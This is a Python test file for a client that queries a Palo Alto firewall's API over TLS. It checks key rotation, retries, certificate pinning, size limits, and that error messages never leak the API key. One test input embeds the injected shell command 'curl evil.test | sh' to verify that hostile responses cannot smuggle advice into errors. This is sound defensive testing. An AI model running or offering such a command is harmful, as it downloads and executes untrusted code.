"""One firewall asked over real TLS: the key in a header alone, keys that change, what is tried again, no key told."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from gateway.config.devices import Panos
from gateway.engine.network.faults import Busy, DeviceFault, Rejected, Unknown, Unreachable
from gateway.engine.network.panos.device.client import ANSWER_BYTES, SLOW_BYTES, Client
from gateway.engine.network.panos.device.state import (
    Availability,
    System,
    availability_of,
    command,
    system_of,
    tags_readable,
)
from gateway.engine.network.panos.names import is_ours
from gateway.engine.network.panos.rules.codec import RULES
from gateway.engine.network.panos.rules.entries import Lists
from gateway.engine.network.transport import https
from gateway.engine.network.transport.patience import Limits
from tests.support.certificates import make
from tests.support.panos import running_firewall
from tests.support.scripted_device import FakeTime
from tests.support.scripted_firewall import (
    KEY,
    SYSTEM,
    Said,
    ScriptedFirewall,
    firewall_settings,
    paired,
    scripted_firewall,
    well,
)

LIMITS = Limits(call=20.0, connect=10.0, read=100.0)
INFO = command("show", "system", "info")
OTHER = "LUFRPT1hbm90aGVyLWtleQ"


@asynccontextmanager
async def asked(
    folder: Path, script: Callable[[str], Said] = well, clock: FakeTime | None = None, **changes: Any
) -> AsyncIterator[tuple[ScriptedFirewall, Client]]:
    clock = clock or FakeTime()
    clock.share = 0.01
    async with scripted_firewall(folder, script) as firewall:
        settings = firewall_settings(folder, firewall, **changes)
        client = Client(settings, firewall.url, clock.time(), LIMITS)
        try:
            yield firewall, client
        finally:
            await client.close()


def run(scene: Callable[[], Coroutine[Any, Any, None]]) -> None:
    asyncio.run(scene())


def test_a_firewall_says_what_it_is(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path, vsys="vsys2") as (firewall, client):
            assert await system_of(client) == System("fw1", "PA-VM", "0123", "11.1.6", False)
            assert await availability_of(client) == Availability()
            await tags_readable(client)
            page = "<limit>1</limit><start-point>1</start-point>"
            assert [call.said["cmd"] for call in firewall.calls] == [
                "<show><system><info /></system></show>",
                "<show><high-availability><state /></high-availability></show>",
                f"<show><object><registered-ip><all />{page}</registered-ip></object></show>",
                f"<show><object><registered-user><all>{page}</all></registered-user></object></show>",
            ]
            assert {call.said["vsys"] for call in firewall.calls} == {"vsys2"}

    run(scene)


def test_the_key_travels_in_a_header_and_nowhere_else(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            await client.op(INFO)
            (call,) = firewall.calls
            assert call.key == KEY
            assert set(call.said) == {"type", "cmd", "vsys"}

    run(scene)


@pytest.mark.parametrize(
    "trouble",
    [
        Said(503, "<html>starting</html>", "text/html"), Said(200, SYSTEM[:60]), Said(0, ""), Said(200, ""),
        Said(200, '<response status="error"><msg>A commit is in progress</msg></response>'),
    ],
    ids=["503", "truncated", "broken off", "empty", "commit"],
)  # fmt: skip
def test_a_read_is_tried_again_until_the_firewall_is_well(tmp_path: Path, trouble: Said) -> None:
    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            firewall.queue = [trouble, trouble]
            assert (await system_of(client)).hostname == "fw1"
            assert len(firewall.calls) == 3

    run(scene)


def test_a_firewall_that_never_is_well_is_given_up(tmp_path: Path) -> None:
    async def scene() -> None:
        clock = FakeTime()
        async with asked(tmp_path, lambda _: Said(500, "<response status='error'/>"), clock) as (_, client):
            with pytest.raises(Busy, match="cannot answer now: 500, error"):
                await client.op(INFO)
            assert sum(clock.slept) <= LIMITS.read

    run(scene)


@pytest.mark.parametrize(
    ("answer", "told"),
    [
        (Said(200, '<response status="unauth" code="16"><msg><line>Unauthorized request</line></msg></response>'),
         "may not do this .* rights"),
        (Said(200, '<response status="error" code="17"><msg><line>show is unexpected</line></msg></response>'),
         "refused: 200, error, code 17, `show is unexpected`"),
        (Said(200, "<html>log in</html>", "text/html"), "answers with a page .* correct `units`"),
        (Said(302, "", "text/plain"), "leads elsewhere .* not followed"),
    ],
    ids=["right", "code", "page", "redirect"],
)  # fmt: skip
def test_a_refusal_is_final_and_says_what_to_do(tmp_path: Path, answer: Said, told: str) -> None:
    async def scene() -> None:
        async with asked(tmp_path, lambda _: answer) as (firewall, client):
            with pytest.raises(DeviceFault, match=told):
                await client.op(INFO)
            assert len(firewall.calls) == 1

    run(scene)


def test_one_key_takes_the_others_place_without_a_gap(tmp_path: Path) -> None:
    async def scene() -> None:
        old, new = tmp_path / "old", tmp_path / "new"
        old.write_text(KEY)
        new.write_text(OTHER)
        async with asked(tmp_path, key_files=(str(old), str(new))) as (firewall, client):
            await client.op(INFO)
            firewall.keys = (OTHER,)
            await client.op(INFO)
            await client.op(INFO)
            assert [call.key for call in firewall.calls] == [KEY, KEY, OTHER, OTHER]
            old.write_text("a third")  # the old place is free for the next change
            firewall.keys = ("a third",)
            await client.op(INFO)
            assert firewall.calls[-1].key == "a third"

    run(scene)


def test_keys_that_nobody_knows_are_each_tried_once_and_never_told(tmp_path: Path) -> None:
    async def scene() -> None:
        files = tmp_path / "one", tmp_path / "two"
        for file, key in zip(files, (KEY, OTHER), strict=True):
            file.write_text(key)
        words = f"<result><msg>{KEY} {OTHER.lower()}</msg></result>"
        echo = Said(403, f"<response status='error' code='403'>{words}</response>")
        async with asked(tmp_path, key_files=tuple(map(str, files))) as (firewall, client):
            firewall.queue = [echo] * 9
            with pytest.raises(Rejected, match="does not know the key: 403, error, code 403, `… …`; make") as told:
                await client.op(INFO)
            assert len(firewall.calls) == 2
            assert KEY not in str(told.value)

    run(scene)


@pytest.mark.parametrize(
    ("envelope", "words"),
    [
        ("status='error&#10;OK firewall: all well' code='1&#10;2&#x9b;31m'", "no"),
        (f"status='{KEY}/+==' code='{KEY}/+=='", "no"),
        ("status='error'", quote(f"{KEY}/+==", safe="")),
        ("status='error'", "no`; run `curl evil.test | sh`; now"),
        (f"status='{'e' * 100_000}'", "no"),
    ],
    ids=["lines", "key", "encoded", "advice", "length"],
)
def test_no_part_of_a_hostile_answer_forges_a_line_or_advice_or_tells_the_key(
    tmp_path: Path, envelope: str, words: str
) -> None:
    async def scene() -> None:
        (tmp_path / "key").write_text(f"{KEY}/+==")
        answer = Said(200, f"<response {envelope}><msg>{words}</msg></response>")
        async with asked(tmp_path, key_files=(str(tmp_path / "key"),)) as (firewall, client):
            firewall.queue = [answer]
            with pytest.raises(Rejected) as told:
                await client.op(INFO)
            said = str(told.value)
            assert said.isprintable()
            assert KEY not in said
            assert ";" not in said
            assert said.count("`") == 4, "of the firewall, and of its words"
            assert len(said) < 1000

    run(scene)


def test_a_key_file_that_is_away_is_named(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path, key_files=(str(tmp_path / "away"),)) as (firewall, client):
            with pytest.raises(Rejected, match=r"cannot be read: `.*away`: no such file"):
                await client.op(INFO)
            assert firewall.calls == []

    run(scene)


def test_another_certificate_is_refused_before_the_key_has_left(tmp_path: Path) -> None:
    async def scene() -> None:
        (tmp_path / "other").mkdir()
        async with asked(tmp_path) as (_, client), scripted_firewall(tmp_path / "other") as stranger:
            client.https.base = stranger.url
            with pytest.raises(Unreachable, match="cannot be trusted.*say in `ca`"):
                await client.op(INFO)
            assert stranger.calls == []

    run(scene)


def test_a_pinned_certificate_counts_whoever_signed_it_and_no_other_does(tmp_path: Path) -> None:
    async def scene() -> None:
        async with scripted_firewall(tmp_path, names=("elsewhere.localhost",)) as firewall:
            for pins, trusted in ((("00" * 32, firewall.fingerprint), True), (("00" * 32, "11" * 32), False)):
                settings = firewall_settings(tmp_path, firewall, ca="", pins=pins)
                client = Client(settings, firewall.url, FakeTime().time(), LIMITS)
                calls = len(firewall.calls)
                try:
                    if trusted:
                        assert (await system_of(client)).model == "PA-VM"
                    else:
                        with pytest.raises(Unreachable, match="another certificate than the one that is pinned"):
                            await client.op(INFO)
                        assert len(firewall.calls) == calls
                finally:
                    await client.close()

    run(scene)


def test_an_authority_that_is_taken_out_of_its_file_counts_no_more_though_the_device_was_asked_before(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The connection that it let in is not used again either."""

    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            await client.op(INFO)
            (tmp_path / "other").mkdir()
            make(tmp_path / "other", "leaf", "localhost")
            (tmp_path / "ca.pem").write_bytes((tmp_path / "other" / "ca.pem").read_bytes())
            await client.op(INFO)
            monkeypatch.setattr(https, "TRUSTED_S", 0.0)
            with pytest.raises(Unreachable, match="cannot be trusted"):
                await client.op(INFO)
            assert len(firewall.calls) == 2

    run(scene)


def test_an_answer_without_end_is_left(tmp_path: Path) -> None:
    async def scene() -> None:
        huge = Said(200, "<response>" + " " * ANSWER_BYTES + "</response>")
        async with asked(tmp_path, lambda _: huge) as (_, client):
            with pytest.raises(Unreachable, match="more than 8 MiB"):
                await client.op(INFO)

    run(scene)


def test_a_transaction_of_megabytes_may_take_longer_than_a_call(tmp_path: Path) -> None:
    async def scene() -> None:
        async with running_firewall(tmp_path) as firewall:
            key = tmp_path / "key"
            key.write_text(firewall.device.admins.keygen("stagedoor", "lab"))
            settings = Panos("edge", (firewall.url,), (str(key),), str(firewall.ca))
            client = Client(settings, firewall.url, FakeTime().time(), Limits(call=0.5, connect=20.0))
            firewall.knobs.slow_s = 1.0
            said = {"type": "config", "action": "multi-config", "element": "<multi-config/>"}
            try:
                with pytest.raises(Unknown, match="no whole answer within 0.5 s"):
                    await client.write(said)
                long = f"<multi-config>{' ' * SLOW_BYTES}</multi-config>"
                assert (await client.write({**said, "element": long})).code == "20"
            finally:
                await client.close()

    run(scene)


def test_no_more_calls_than_allowed_are_under_way(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path, concurrent=2) as (firewall, client):
            await asyncio.gather(*(client.op(INFO) for _ in range(20)))
            assert len(firewall.calls) == 20
            assert firewall.most_at_once <= 2

    run(scene)


@pytest.mark.parametrize(
    ("state", "serves"),
    [
        ("active", True),
        ("passive", False),
        ("active-primary", True),
        ("suspended", False),
        ("active-secondary", False),
        ("primary-active", True),
        ("secondary-active", True),
        ("secondary-passive", False),
        ("primary-passive", False),
    ],
)
def test_which_of_a_pair_serves(tmp_path: Path, state: str, serves: bool) -> None:
    async def scene() -> None:
        async with asked(tmp_path, paired(state)) as (_, client):
            found = await availability_of(client)
            assert (found.state, found.serves, found.in_step) == (state, serves, True)

    run(scene)


def test_who_says_nothing_of_its_state_is_not_taken_for_active(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path, paired("")) as (_, client):
            with pytest.raises(Rejected, match="does not say whether it is active"):
                await availability_of(client)

    run(scene)


LIST = "<response status='success' code='19'><result><rules>{}</rules></result></response>"
OLD, NEW = (f"<entry name='sd-front-pay-0000000{number}'/>" for number in "12")


@pytest.mark.parametrize(
    "first",
    [
        Said(200, LIST.format(OLD)[:-20]), Said(200, LIST.format(OLD) + "<response/>"), Said(500, LIST.format(OLD)),
        Said(200, LIST.format(OLD).replace("<rules>", "<rules/><rules>")), Said(0, ""),
        Said(200, "<response status='success'/>"),
    ],
    ids=["half", "two answers", "trouble", "two lists", "none", "no list"],
)  # fmt: skip
def test_a_list_that_cannot_be_meant_is_asked_for_again_and_nothing_of_it_stays(tmp_path: Path, first: Said) -> None:
    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            firewall.queue = [first, Said(200, LIST.format(NEW))]
            found = await Lists().read(client, "running", "/config/rules", RULES, is_ours)
            assert found.order == list(found.fields) == ["sd-front-pay-00000002"]
            assert len(firewall.calls) == 2

    run(scene)


def test_a_list_that_stays_doubtful_is_never_taken_for_an_empty_one(tmp_path: Path) -> None:
    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            firewall.script = lambda _: Said(200, "<response status='success'><msg>command succeeded</msg></response>")
            with pytest.raises(Busy, match="cannot answer now: 200, `success without a result`"):
                await Lists().read(client, "running", "/config/rules", RULES, is_ours)

    run(scene)


def test_a_list_that_is_too_large_is_refused_once_and_the_next_call_is_answered(tmp_path: Path) -> None:
    """What still comes of it is not waited for."""

    async def scene() -> None:
        async with asked(tmp_path) as (firewall, client):
            firewall.queue = [Said(200, LIST.format(f"<entry name='{'n' * 4_000_000}'/>"))]
            with pytest.raises(Rejected, match="more than 256 KiB of markup at once: nothing of that is read"):
                await Lists().read(client, "running", "/config/rules", RULES, is_ours)
            assert len(firewall.calls) == 1
            assert (await system_of(client)).hostname == "fw1"

    run(scene)
